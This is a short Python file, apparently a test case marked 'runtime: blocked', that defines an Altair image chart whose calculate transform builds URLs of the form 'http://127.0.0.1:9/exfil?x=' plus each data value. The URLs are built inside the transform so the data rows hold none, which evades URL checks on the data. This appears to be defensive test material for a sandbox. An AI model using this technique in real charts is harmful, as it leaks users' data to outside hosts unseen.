"""The url field made by a calculate transform, so the inline rows hold no URL at all."""  # runtime: blocked
# ruff: noqa
import altair as alt
import pandas as pd


def plot(data: pd.DataFrame) -> alt.Chart:
    return (
        alt.Chart(data)
        .transform_calculate(u="'http://127.0.0.1:9/exfil?x=' + datum.x")
        .mark_image(width=20, height=20)
        .encode(x="x:Q", y="y:Q", url="u:N")
    )
